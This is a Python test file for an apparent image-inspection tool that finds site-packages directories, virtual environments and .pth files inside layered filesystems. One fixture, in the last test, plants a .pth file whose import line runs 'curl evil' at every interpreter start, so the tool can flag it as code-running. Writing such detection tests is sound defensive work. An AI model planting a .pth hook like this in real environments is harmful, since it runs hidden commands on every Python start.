"""inspect finds every site directory: a venv anywhere, PYTHONPATH folders, `pip install --target` folders,
and the .pth files of each site (`runs_code`: one with an import line is code run at every start)."""

from __future__ import annotations

from mlenv.observe import observe_tree
from mlenv.observe.facts import probe_interest
from mlenv.observe.fs.rootfs import LayeredFS, index_layer

from .layers import dist_info, image_config, layer_tar

BASE = [
    ("file", "usr/bin/python3.11", b"\x7fELF\x00pymalloc\x003.11.2\x00strict\x00", 0o755),
    ("symlink", "usr/bin/python3", "python3.11"),
]
SITE = "usr/lib/python3.11/site-packages"


def build(*layers: list[tuple]) -> LayeredFS:
    return LayeredFS([index_layer([layer_tar(entries)], interest=probe_interest) for entries in layers])


def test_target_and_pythonpath_folders_are_sites() -> None:
    extra = [
        *dist_info("srv/libs", "requests", "2.31.0", {"requests/__init__.py": b"x\n"}),
        *dist_info("opt/plugins", "plugin", "1.0", {"plugin/__init__.py": b"x\n"}),
        ("dir", "opt/empty-on-path"),
    ]
    fs = build(BASE, extra)
    env = {"PATH": "/usr/bin", "PYTHONPATH": "/opt/plugins:/opt/empty-on-path:relative"}
    facts = observe_tree(fs, image_config([], env=env))
    found = {(d.name, d.version, d.site) for d in facts.python_dists}
    assert ("requests", "2.31.0", "/srv/libs") in found  # a --target folder, on no path at all
    assert ("plugin", "1.0", "/opt/plugins") in found


def test_a_venv_deep_in_the_tree_is_found() -> None:
    deep = "srv/teams/fraud/app/.venv"
    venv = [
        ("file", f"{deep}/pyvenv.cfg", b"home = /usr/bin\nversion = 3.11.2\n"),
        ("symlink", f"{deep}/bin/python", "/usr/bin/python3.11"),
        *dist_info(f"{deep}/lib/python3.11/site-packages", "six", "1.16.0", {"six.py": b"x\n"}),
    ]
    facts = observe_tree(build(BASE, venv))
    assert ("six", f"/{deep}/lib/python3.11/site-packages") in {(d.name, d.site) for d in facts.python_dists}
    assert (f"/{deep}/bin/python", "3.11.2") in {(i.path, i.version) for i in facts.interpreters}


def test_pth_files_are_facts_and_an_import_line_is_a_finding() -> None:
    site = [
        *dist_info(SITE, "demo", "1.0", {"demo/__init__.py": b"x\n"}),
        ("file", f"{SITE}/paths.pth", b"/opt/extra\n# a comment\n"),
        ("file", f"{SITE}/zz-hook.pth", b"import os; os.system('curl evil')\n"),
    ]
    facts = observe_tree(build(BASE, site), image_config([], env={"PATH": "/usr/bin"}))
    pth = {p.path: p.runs_code for p in facts.pth_files}
    assert pth == {f"/{SITE}/paths.pth": False, f"/{SITE}/zz-hook.pth": True}
